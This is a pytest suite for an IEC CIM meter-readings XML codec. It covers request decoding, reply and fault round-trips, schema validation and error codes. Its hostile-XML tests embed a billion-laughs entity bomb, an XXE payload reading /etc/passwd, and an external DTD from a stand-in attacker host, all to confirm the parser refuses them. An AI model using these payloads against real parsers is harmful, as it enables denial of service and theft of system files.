"""The CIM codec: hostile XML is refused, requests decode from every place the standard allows, and every
message cimhes produces round-trips and validates against its own schema and the standard's."""

import re
from datetime import datetime, timedelta, timezone
from decimal import Decimal

import pytest
from lxml import etree

from cimhes.cim import codec
from cimhes.cim.codec import (
    BadNoun,
    BadVerb,
    CodecError,
    DocumentTooLarge,
    HostileXml,
    InvalidRequest,
    MalformedXml,
    SchemaInvalid,
)
from cimhes.cim.message import (
    STANDARD_CODES,
    Error,
    ErrorCode,
    Header,
    ObjectId,
    Reply,
    ReplyResult,
    Verb,
    reply_header,
)
from cimhes.cim.meter_readings import (
    DeviceRef,
    GetMeterReadings,
    IntervalBlock,
    IntervalReading,
    MeterReading,
    MeterReadingsResponse,
    Name,
    Reading,
)

from . import schemas
from .schemas import sample

UTC = timezone.utc
T0 = datetime(2024, 3, 1, 0, 0, tzinfo=UTC)
PLUS_A = "0.0.0.1.1.1.12.0.0.0.0.0.0.0.0.3.72.0"
MINUS_A = "0.0.0.1.19.1.12.0.0.0.0.0.0.0.0.3.72.0"
PLUS_A_PROFILE = "0.0.2.1.1.1.12.0.0.0.0.0.0.0.0.3.72.0"
MRID = "3f0c5a4e-6d2b-5a51-9b8e-2f7f1c1d0a01"


@pytest.fixture(scope="module")
def reference_schema():
    """The standard's GetMeterReadingsMessage schema set (the oracle), compiled from ../shared."""
    return schemas.reference_schema()


def assert_valid_everywhere(element, reference_schema):
    codec.validate(element, codec.MESSAGE_SCHEMA)
    assert reference_schema.validate(element), reference_schema.error_log


def request_xml(request_body: str, header: str = "<m:Verb>get</m:Verb><m:Noun>MeterReadings</m:Noun>") -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<w:GetMeterReadings xmlns:w="http://iec.ch/TC57/2011/GetMeterReadingsMessage"
    xmlns:m="http://iec.ch/TC57/2011/schema/message" xmlns:g="http://iec.ch/TC57/2011/GetMeterReadings#">
  <w:Header>{header}</w:Header>
  <w:Request>{request_body}</w:Request>
</w:GetMeterReadings>""".encode()


def decode(data: bytes) -> GetMeterReadings:
    return codec.decode_get_meter_readings(codec.parse_xml(data))


METER = f"<g:EndDevice><g:mRID>{MRID}</g:mRID></g:EndDevice>"


# ------------------------------------------------------------------------------------ decoding requests


def test_hand_written_request_decodes():
    request = decode(request_xml(f"""
        <w:StartTime>2024-03-01T00:00:00Z</w:StartTime><w:EndTime>2024-03-01T01:00:00+01:00</w:EndTime>
        <g:GetMeterReadings>
          {METER}
          <g:EndDevice><g:Names><g:name>CIMHES000002</g:name><g:NameType><g:name>SerialNumber</g:name></g:NameType></g:Names></g:EndDevice>
          <g:Reading><g:reason>inquiry</g:reason></g:Reading>
          <g:ReadingType><g:mRID>{PLUS_A}</g:mRID></g:ReadingType>
          <g:ReadingType><g:mRID> {PLUS_A_PROFILE} </g:mRID></g:ReadingType>
        </g:GetMeterReadings>""",
        header="<m:Verb>get</m:Verb><m:Noun>MeterReadings</m:Noun><m:Timestamp>2024-03-01T02:00:00Z</m:Timestamp>"
               "<m:Source>MDM</m:Source><m:AsyncReplyFlag>false</m:AsyncReplyFlag><m:User><m:UserID>alice</m:UserID></m:User>"
               "<m:MessageID>m-1</m:MessageID><m:CorrelationID>c-1</m:CorrelationID>"
               "<m:Property><m:Name>priority</m:Name><m:Value>high</m:Value></m:Property>"))
    assert request.header == Header(
        verb=Verb.GET, noun="MeterReadings", timestamp=T0 + timedelta(hours=2), source="MDM", async_reply=False,
        user_id="alice", message_id="m-1", correlation_id="c-1", properties=(("priority", "high"),),
    )
    assert request.end_devices == (DeviceRef(mrid=MRID), DeviceRef(names=(Name("CIMHES000002", "SerialNumber"),)))
    assert request.usage_points == ()
    assert request.reading_types == (PLUS_A, PLUS_A_PROFILE)
    assert (request.start, request.end) == (T0, T0)  # 01:00+01:00 is midnight UTC
    assert request.reason == "inquiry"


@pytest.mark.parametrize(
    "window",
    [
        "<w:StartTime>2024-03-01T00:00:00Z</w:StartTime><w:EndTime>2024-03-02T00:00:00Z</w:EndTime><g:GetMeterReadings>{meter}</g:GetMeterReadings>",
        "<g:GetMeterReadings>{meter}<g:Reading><g:timePeriod><g:end>2024-03-02T00:00:00Z</g:end><g:start>2024-03-01T00:00:00Z</g:start></g:timePeriod></g:Reading></g:GetMeterReadings>",
        "<g:GetMeterReadings>{meter}<g:TimeSchedule><g:scheduleInterval><g:end>2024-03-02T00:00:00Z</g:end><g:start>2024-03-01T00:00:00Z</g:start></g:scheduleInterval></g:TimeSchedule></g:GetMeterReadings>",
        # the same window given twice is fine
        "<w:StartTime>2024-03-01T00:00:00Z</w:StartTime><w:EndTime>2024-03-02T00:00:00Z</w:EndTime><g:GetMeterReadings>{meter}<g:TimeSchedule><g:scheduleInterval><g:end>2024-03-02T00:00:00Z</g:end><g:start>2024-03-01T00:00:00Z</g:start></g:scheduleInterval></g:TimeSchedule></g:GetMeterReadings>",
    ],
    ids=["Request.StartTime/EndTime", "Reading.timePeriod", "TimeSchedule.scheduleInterval", "two agreeing places"],
)
def test_time_window_is_taken_from_every_standard_place(window):
    request = decode(request_xml(window.format(meter=METER)))
    assert (request.start, request.end) == (T0, T0 + timedelta(days=1))


def test_no_time_window_means_none():
    request = decode(request_xml(f"<g:GetMeterReadings>{METER}</g:GetMeterReadings>"))
    assert (request.start, request.end) == (None, None)


def test_time_without_zone_is_utc():
    request = decode(request_xml(f"<w:StartTime>2024-03-01T00:00:00</w:StartTime><g:GetMeterReadings>{METER}</g:GetMeterReadings>"))
    assert request.start == T0


def test_two_different_windows_are_refused():
    with pytest.raises(InvalidRequest, match="two different time windows") as caught:
        decode(request_xml(
            f"<w:StartTime>2024-03-01T00:00:00Z</w:StartTime><g:GetMeterReadings>{METER}"
            "<g:TimeSchedule><g:scheduleInterval><g:start>2024-03-05T00:00:00Z</g:start></g:scheduleInterval></g:TimeSchedule>"
            "</g:GetMeterReadings>"))
    assert caught.value.code == ErrorCode.INVALID_PARAMETER
    assert caught.value.xpath.endswith("g:scheduleInterval")


def test_window_ending_before_it_starts_is_refused():
    with pytest.raises(InvalidRequest, match="starts .* after it ends"):
        decode(request_xml(f"<w:StartTime>2024-03-02T00:00:00Z</w:StartTime><w:EndTime>2024-03-01T00:00:00Z</w:EndTime>"
                           f"<g:GetMeterReadings>{METER}</g:GetMeterReadings>"))


def test_bad_reading_type_code_names_the_element_and_the_part():
    with pytest.raises(InvalidRequest, match=r"part 17 \(unit\) is 'kWh'") as caught:
        decode(request_xml(f"<g:GetMeterReadings>{METER}<g:ReadingType><g:mRID>0.0.0.1.1.1.12.0.0.0.0.0.0.0.0.3.kWh.0</g:mRID></g:ReadingType></g:GetMeterReadings>"))
    error = caught.value
    assert error.code == "2.6"  # invalid ReadingType, and the Error names it
    assert (error.to_error().id, error.to_error().object_type) == (
        "0.0.0.1.1.1.12.0.0.0.0.0.0.0.0.3.kWh.0", "ReadingType")
    assert error.xpath == "/w:GetMeterReadings/w:Request/g:GetMeterReadings/g:ReadingType/g:mRID"
    assert error.line == 5
    assert error.element == "{http://iec.ch/TC57/2011/GetMeterReadings#}mRID"


def test_reading_type_by_name_only_is_refused():
    with pytest.raises(InvalidRequest, match="by its mRID") as caught:
        decode(request_xml(f"<g:GetMeterReadings>{METER}<g:ReadingType><g:Names><g:name>A+</g:name></g:Names></g:ReadingType></g:GetMeterReadings>"))
    assert caught.value.code == "2.6"


def test_request_without_devices_is_refused():
    with pytest.raises(InvalidRequest, match="no EndDevice, EndDeviceGroup or UsagePoint") as caught:
        decode(request_xml("<g:GetMeterReadings/>"))
    assert caught.value.code == ErrorCode.MISSING_PARAMETER


def test_device_without_mrid_or_names_is_refused():
    with pytest.raises(InvalidRequest, match="EndDevice must have an mRID or a Names") as caught:
        decode(request_xml("<g:GetMeterReadings><g:EndDevice/></g:GetMeterReadings>"))
    assert caught.value.code == ErrorCode.MISSING_PARAMETER


def test_device_groups_decode_and_usage_point_groups_are_refused_not_ignored():
    request = decode(request_xml(f"<g:GetMeterReadings>{METER}<g:EndDeviceGroup><g:mRID>g</g:mRID></g:EndDeviceGroup></g:GetMeterReadings>"))
    assert request.end_device_groups == (DeviceRef(mrid="g"),)
    with pytest.raises(InvalidRequest, match="UsagePointGroup is not supported") as caught:
        decode(request_xml(f"<g:GetMeterReadings>{METER}<g:UsagePointGroup><g:mRID>g</g:mRID></g:UsagePointGroup></g:GetMeterReadings>"))
    assert caught.value.code == ErrorCode.UNSUPPORTED_REQUEST


def test_wrong_verb_and_noun_are_refused():
    body = f"<g:GetMeterReadings>{METER}</g:GetMeterReadings>"
    with pytest.raises(BadVerb, match="'create'") as caught:
        decode(request_xml(body, header="<m:Verb>create</m:Verb><m:Noun>MeterReadings</m:Noun>"))
    assert caught.value.code == "2.9"
    with pytest.raises(BadNoun, match="'EndDeviceEvents'") as caught:
        decode(request_xml(body, header="<m:Verb>get</m:Verb><m:Noun>EndDeviceEvents</m:Noun>"))
    assert caught.value.code == "2.5"


def test_schema_invalid_request_says_where():
    with pytest.raises(SchemaInvalid, match="not valid against GetMeterReadingsMessage.xsd.*Surprise") as caught:
        decode(request_xml(f"<g:GetMeterReadings>{METER}<g:Surprise/></g:GetMeterReadings>"))
    assert caught.value.code == ErrorCode.SCHEMA_INVALID
    assert caught.value.line == 5
    assert caught.value.xpath == "/w:GetMeterReadings/w:Request/g:GetMeterReadings/g:Surprise"


def test_request_missing_the_get_profile_is_schema_invalid():
    with pytest.raises(SchemaInvalid):
        decode(request_xml("<w:StartTime>2024-03-01T00:00:00Z</w:StartTime>"))


def test_another_message_is_refused_by_name():
    with pytest.raises(SchemaInvalid, match=r"expected the message element \{http://iec.ch/TC57/2011/GetMeterReadingsMessage\}GetMeterReadings"):
        codec.decode_get_meter_readings(codec.parse_xml(b"<x:GetMeterReadings xmlns:x='urn:other'/>"))


def test_request_round_trips_through_its_encoder(reference_schema):
    request = GetMeterReadings(
        header=Header(verb="get", noun="MeterReadings", message_id="42", timestamp=T0),
        end_devices=[DeviceRef(mrid=MRID, names=(Name("CIMHES000001", "SerialNumber"),))],
        usage_points=[DeviceRef(mrid="up-1")],
        reading_types=[PLUS_A, MINUS_A],
        start=T0,
        end=T0 + timedelta(hours=1),
        reason="billing",
    )
    element = codec.encode_get_meter_readings(request)
    assert_valid_everywhere(element, reference_schema)
    assert codec.decode_get_meter_readings(codec.parse_xml(etree.tostring(element))) == request


# --------------------------------------------------------------------------- the third-party samples


def test_connexo_get_meter_readings_sample_decodes(reference_schema):
    data = sample("connexo_GetMeterReadings_request_GetUsagePointReadingsRequest.xml")
    message = codec.soap_body(codec.parse_xml(data))
    assert reference_schema.validate(message)
    request = codec.decode_get_meter_readings(message)
    assert request.usage_points == (
        DeviceRef(mrid="00000000-0000-0000-0000-0000000000ff",
                  names=(Name("K@#Ø%!", "UsagePointName"), Name("Billing", "Purpose"))),
    )
    assert request.end_devices == ()
    assert request.reading_types == ("11.0.0.4.1.1.12.0.0.0.0.0.0.0.0.3.72.0",)
    plus_three = timezone(timedelta(hours=3))
    assert request.start == datetime(2017, 7, 1, tzinfo=plus_three)
    assert request.end == datetime(2017, 7, 13, tzinfo=plus_three)


def epri_requests() -> list[bytes]:
    """The SOAP requests inside the EPRI SoapUI project (its GetMeterReadings operation and test step)."""
    project = codec.parse_xml(sample("epri-openwms_soapui_MeterOnDemand_MDMS-1_GetMeterReadings.xml"))
    texts = [node.text for node in project.iter("{http://eviware.com/soapui/config}request") if node.text and node.text.strip()]
    assert texts, "the SoapUI project holds no requests"
    return [text.encode("utf-8") for text in texts]


def test_epri_draft_namespace_requests_get_a_clear_schema_valid_fault(reference_schema):
    # The EPRI harness predates the final namespaces (http://www.iec.ch/...): a head-end speaking the
    # standard cannot take it, and must say so with a fault a standard client can read.
    for data in epri_requests():
        message = codec.soap_body(codec.parse_xml(data))
        with pytest.raises(SchemaInvalid, match="www.iec.ch/TC57/2011/MeterReadingsMessage") as caught:
            codec.decode_get_meter_readings(message)
        fault = codec.encode_fault(Reply(ReplyResult.FAILED, errors=(caught.value.to_error(),)))
        assert_valid_everywhere(fault, reference_schema)


def test_connexo_reply_sample_is_judged_by_our_schema_as_by_the_standard(reference_schema):
    # The vendor's reply lists ReadingQualityType without the Names the standard requires: the standard's
    # schema rejects it, and ours must reject it at the same place (and take it once that is fixed).
    message = codec.soap_body(codec.parse_xml(sample("connexo_GetMeterReadings_reply_GetUsagePointReadingsResponse.xml")))
    assert not reference_schema.validate(message)
    reference_lines = sorted({entry.line for entry in reference_schema.error_log})
    with pytest.raises(SchemaInvalid, match="ReadingQualityType.*Names") as caught:
        codec.decode_meter_readings_response(message)
    assert caught.value.line == reference_lines[0]
    r = {"r": codec.NS_METER_READINGS}
    for quality_type in message.xpath("//r:MeterReadings/r:ReadingQualityType", namespaces=r):
        names = etree.SubElement(quality_type, f"{{{codec.NS_METER_READINGS}}}Names")
        etree.SubElement(names, f"{{{codec.NS_METER_READINGS}}}name").text = "added"
    assert reference_schema.validate(message), reference_schema.error_log
    response = codec.decode_meter_readings_response(message)
    assert response.reply.result is ReplyResult.OK
    assert response.header.verb is Verb.REPLY
    blocks = [block for reading in response.meter_readings for block in reading.interval_blocks]
    assert blocks and all(block.readings for block in blocks)
    assert blocks[0].readings[0].value == Decimal("2.147")


# ----------------------------------------------------------------------------- encoding the replies


def a_response(result=ReplyResult.OK, errors=()) -> MeterReadingsResponse:
    request_header = Header(verb="get", noun="MeterReadings", message_id="m-7")
    meter = DeviceRef(mrid=MRID, names=(Name("CIMHES000001", "SerialNumber"),))
    profile = IntervalBlock(PLUS_A_PROFILE, [
        IntervalReading(T0 + timedelta(minutes=15 * k), Decimal("1234.5") + k) for k in range(1, 5)
    ] + [IntervalReading(T0 + timedelta(minutes=75), Decimal("1240.000"), qualities=("1.4.9",))])
    return MeterReadingsResponse(
        header=reply_header(request_header, timestamp=T0 + timedelta(hours=2), source="cimhes"),
        reply=Reply(result, errors=errors),
        meter_readings=[
            MeterReading(
                meter=meter,
                readings=[Reading(PLUS_A, Decimal("1240.000"), T0 + timedelta(minutes=75)),
                          Reading(MINUS_A, Decimal("12.34"), T0 + timedelta(minutes=75))],
                interval_blocks=[profile],
                values_interval=(T0, T0 + timedelta(minutes=75)),
            ),
            MeterReading(meter=DeviceRef(mrid="other"), readings=[Reading(PLUS_A, Decimal("0"), T0)]),
        ],
    )


def partial_errors():
    return (
        Error(code=ErrorCode.DEVICE_TIMEOUT, reason="meter CIMHES000003 did not answer within 30 s",
              xpath="{http://iec.ch/TC57/2011/GetMeterReadings#}EndDevice",
              id="3f0c5a4e-0000-5a51-9b8e-2f7f1c1d0a03", id_kind="uuid", object_type="EndDevice"),
        Error(code="2.3", level="WARNING", reason="reading type not supported", id=MINUS_A, id_kind="name",
              object_type="ReadingType"),
    )


@pytest.mark.parametrize(
    "response",
    [a_response(), a_response(ReplyResult.PARTIAL, partial_errors()),
     MeterReadingsResponse(header=Header(verb="reply", noun="MeterReadings"), reply=Reply("OK"))],
    ids=["OK", "PARTIAL", "OK with no readings"],
)
def test_response_round_trips_and_validates_everywhere(response, reference_schema):
    element = codec.encode_meter_readings_response(response)
    assert_valid_everywhere(element, reference_schema)
    assert codec.decode_meter_readings_response(codec.parse_xml(etree.tostring(element))) == response


def test_response_correlates_with_the_request():
    response = a_response()
    assert response.header.verb is Verb.REPLY
    assert response.header.noun == "MeterReadings"
    assert response.header.correlation_id == "m-7"


def test_response_lists_each_reading_type_used_once_with_names():
    element = codec.encode_meter_readings_response(a_response())
    r = {"r": codec.NS_METER_READINGS}
    assert element.xpath("//r:MeterReadings/r:ReadingType/r:mRID/text()", namespaces=r) == [PLUS_A, MINUS_A, PLUS_A_PROFILE]
    assert len(element.xpath("//r:MeterReadings/r:ReadingType/r:Names/r:name", namespaces=r)) == 3


def test_failed_response_without_readings_has_no_payload(reference_schema):
    response = MeterReadingsResponse(
        header=Header(verb="reply", noun="MeterReadings"),
        reply=Reply(ReplyResult.FAILED, errors=(Error(ErrorCode.OBJECT_NOT_FOUND, reason="no such meter", id="x", id_kind="name"),)),
    )
    element = codec.encode_meter_readings_response(response)
    assert element.find(f"{{{codec.NS_GET_METER_READINGS_MESSAGE}}}Payload") is None
    assert_valid_everywhere(element, reference_schema)
    assert codec.decode_meter_readings_response(element) == response


def test_values_are_written_as_plain_decimals():
    response = MeterReadingsResponse(
        header=Header(verb="reply", noun="MeterReadings"), reply=Reply("OK"),
        meter_readings=[MeterReading(DeviceRef(mrid="m"), readings=[Reading(PLUS_A, Decimal("1E+3"), T0)])],
    )
    element = codec.encode_meter_readings_response(response)
    assert element.xpath("//r:Readings/r:value/text()", namespaces={"r": codec.NS_METER_READINGS}) == ["1000"]


def test_naive_times_are_refused_on_the_way_out():
    with pytest.raises(ValueError, match="timezone-aware"):
        Reading(PLUS_A, Decimal(1), datetime(2024, 1, 1))
    with pytest.raises(ValueError, match="timezone-aware"):
        codec.encode_meter_readings_response(MeterReadingsResponse(
            header=Header(verb="reply", noun="MeterReadings", timestamp=datetime(2024, 1, 1)), reply=Reply("OK")))


def test_fault_round_trips_and_validates_everywhere(reference_schema):
    reply = Reply(ReplyResult.FAILED, errors=partial_errors(), ids=(ObjectId("t-1", kind="transaction"),))
    element = codec.encode_fault(reply)
    assert_valid_everywhere(element, reference_schema)
    assert codec.decode_fault(codec.parse_xml(etree.tostring(element))) == reply


# --------------------------------------------------------------------------------------- hostile XML

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<r>&secret;</r>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.invalid/evil.dtd"><r/>"""


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD,
     BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>').decode().encode("utf-16")],
    ids=["billion laughs", "external entity", "external DTD", "DTD in UTF-16"],
)
def test_dtds_and_entities_are_refused(data):
    with pytest.raises(HostileXml, match="DOCTYPE|DTD") as caught:
        codec.parse_xml(data)
    assert caught.value.code == ErrorCode.FORBIDDEN_MARKUP


def test_undeclared_entity_is_malformed():
    with pytest.raises(MalformedXml, match="not well-formed"):
        codec.parse_xml(b"<r>&secret;</r>")


@pytest.mark.parametrize(
    "data, line",
    [(b"<r><unclosed></r>", 1), (b"<r>\n\n<a b='1' b='2'/></r>", 3), (b"", None), (b"\xff\xfe<r/", 1), (b"just text", 1)],
)
def test_malformed_xml_is_refused_with_the_line(data, line):
    with pytest.raises(MalformedXml, match="not well-formed XML") as caught:
        codec.parse_xml(data)
    assert caught.value.code == ErrorCode.MALFORMED_MESSAGE
    if line is not None:
        assert caught.value.line == line


def test_text_instead_of_bytes_is_refused():
    with pytest.raises(MalformedXml, match="bytes, not str"):
        codec.parse_xml("<r/>")


def test_oversized_document_is_refused_before_parsing():
    data = b"<r>" + b"x" * codec.MAX_DOCUMENT_BYTES + b"</r>"
    with pytest.raises(DocumentTooLarge, match=f"limit is {codec.MAX_DOCUMENT_BYTES}") as caught:
        codec.parse_xml(data)
    assert caught.value.code == ErrorCode.MESSAGE_TOO_LARGE
    with pytest.raises(DocumentTooLarge):
        codec.parse_xml(b"<r>0123456789</r>", max_bytes=10)


@pytest.mark.parametrize("depth", [codec.MAX_DEPTH + 1, 300, 100_000])
def test_over_deep_document_is_refused(depth):
    data = b"<a>" * depth + b"</a>" * depth
    with pytest.raises(DocumentTooLarge, match=f"deeper than {codec.MAX_DEPTH}") as caught:
        codec.parse_xml(data)
    assert caught.value.code == ErrorCode.MESSAGE_TOO_LARGE


def test_document_at_the_depth_limit_is_accepted():
    data = b"<a>" * codec.MAX_DEPTH + b"</a>" * codec.MAX_DEPTH
    assert codec.parse_xml(data).tag == "a"


def test_comments_and_processing_instructions_are_dropped():
    root = codec.parse_xml(b"<?xml version='1.0'?><r><!-- c --><?pi x?><a/></r>")
    assert [child.tag for child in root] == ["a"]


# ------------------------------------------------------------------------------ errors as Reply.Error


def test_every_codec_error_becomes_a_schema_valid_fault(reference_schema):
    problems = []
    for data in (b"<r>", BILLION_LAUGHS, b"<a>" * 70 + b"</a>" * 70,
                 request_xml(f"<g:GetMeterReadings>{METER}<g:Surprise/></g:GetMeterReadings>"),
                 request_xml(f"<g:GetMeterReadings>{METER}<g:ReadingType><g:mRID>1.2</g:mRID></g:ReadingType></g:GetMeterReadings>")):
        with pytest.raises(CodecError) as caught:
            decode(data)
        problems.append(caught.value)
    reply = Reply(ReplyResult.FAILED, errors=tuple(problem.to_error() for problem in problems))
    element = codec.encode_fault(reply)
    assert_valid_everywhere(element, reference_schema)
    codes = [error.code for error in codec.decode_fault(element).errors]
    assert codes == ["1.8", "1.8", "3.1", "1.8", "2.6"]
    details = [error.details.split(":")[0] for error in codec.decode_fault(element).errors]
    assert details[:3] == ["not-well-formed", "forbidden-markup", "message-too-large"]
    assert "line 5" in reply.errors[-1].details


def test_error_xpath_takes_an_element_name_not_a_path():
    with pytest.raises(ValueError, match="put paths in Error.details"):
        Error(code="1.3", xpath="/a/b[1]")
    assert Error(code="1.3", xpath="EndDevice").xpath == "EndDevice"


@pytest.mark.parametrize("row", ErrorCode.rows(), ids=lambda c: c.name)
def test_error_code_table_rows_use_the_standards_codes(row):
    assert re.fullmatch(r"[0-9]\.[0-9]+", row.value)
    assert row.value in STANDARD_CODES
    assert row.meaning
    assert row.detail is None or re.fullmatch(r"[a-z][a-z-]+", row.detail)


def test_two_situations_sharing_a_code_differ_by_detail():
    rows = ErrorCode.rows()
    assert len({(row.value, row.detail) for row in rows}) == len(rows)


def test_the_cases_the_issue_names_have_the_standards_numbers():
    assert (ErrorCode.SCHEMA_INVALID, ErrorCode.INVALID_METER, ErrorCode.INVALID_NOUN,
            ErrorCode.INVALID_READING_TYPE, ErrorCode.INVALID_VERB,
            ErrorCode.UNSUPPORTED_READING_TYPE, ErrorCode.TOO_MANY_ITEMS,
            ErrorCode.TOO_MANY_PENDING, ErrorCode.TIMED_OUT, ErrorCode.ACKNOWLEDGED) == (
        "1.8", "2.4", "2.5", "2.6", "2.9", "2.10", "3.1", "3.2", "4.1", "0.3")
    assert all(row.value.startswith("5.") for row in (
        ErrorCode.DEVICE_TIMEOUT, ErrorCode.DEVICE_UNREACHABLE, ErrorCode.DEVICE_REFUSED,
        ErrorCode.DEVICE_PROTOCOL_ERROR, ErrorCode.DATA_UNAVAILABLE, ErrorCode.HIGH_LOAD))


def test_docs_errors_lists_every_row():
    from pathlib import Path
    page = (Path(__file__).parent.parent / "docs" / "errors.md").read_text()
    for row in ErrorCode.rows():
        detail = f"`{row.detail}`" if row.detail else "—"
        assert f"| {row.code} | {STANDARD_CODES[row.code]} | {detail} |" in page, row.name


def test_a_finer_distinction_leads_the_errors_details():
    error = Error(code=ErrorCode.DEVICE_TIMEOUT, details="after 20 s")
    assert (error.code, error.details) == ("5.3", "device-timeout: after 20 s")
    assert Error(code=ErrorCode.INVALID_METER).details is None


@pytest.mark.parametrize(
    "error_class, code",
    [(MalformedXml, "1.8"), (BadVerb, "2.9"), (BadNoun, "2.5"), (SchemaInvalid, "1.8"),
     (DocumentTooLarge, "3.1"), (HostileXml, "1.8"), (InvalidRequest, "1.8")],
)
def test_each_codec_error_carries_its_code(error_class, code):
    assert error_class("why").code == code
    assert error_class("why").to_error().code == code


def test_a_flood_of_elements_is_refused_before_it_is_all_parsed():
    # A million empty elements in 4 MB: a whole tree of them costs lxml about half a second.
    data = b"<r>" + b"<e/>" * 1_000_000 + b"</r>"
    with pytest.raises(DocumentTooLarge, match=f"more than {codec.MAX_ELEMENTS} elements") as caught:
        codec.parse_xml(data)
    assert caught.value.code == ErrorCode.MESSAGE_TOO_LARGE


@pytest.mark.parametrize("extra", [0, 1])
def test_the_element_limit_is_exact_whichever_way_the_document_is_parsed(extra):
    limit = 1_000
    # Closing tags and a comment full of "<" push the "<" count past the limit, so the
    # counting parser is the one that decides.
    data = (b"<r><!--" + b"<" * 5000 + b"-->" + b"<e></e>" * (limit - 1 + extra) + b"</r>")
    if extra:
        with pytest.raises(DocumentTooLarge, match=f"more than {limit} elements"):
            codec.parse_xml(data, max_elements=limit)
    else:
        assert len(codec.parse_xml(data, max_elements=limit)) == limit - 1
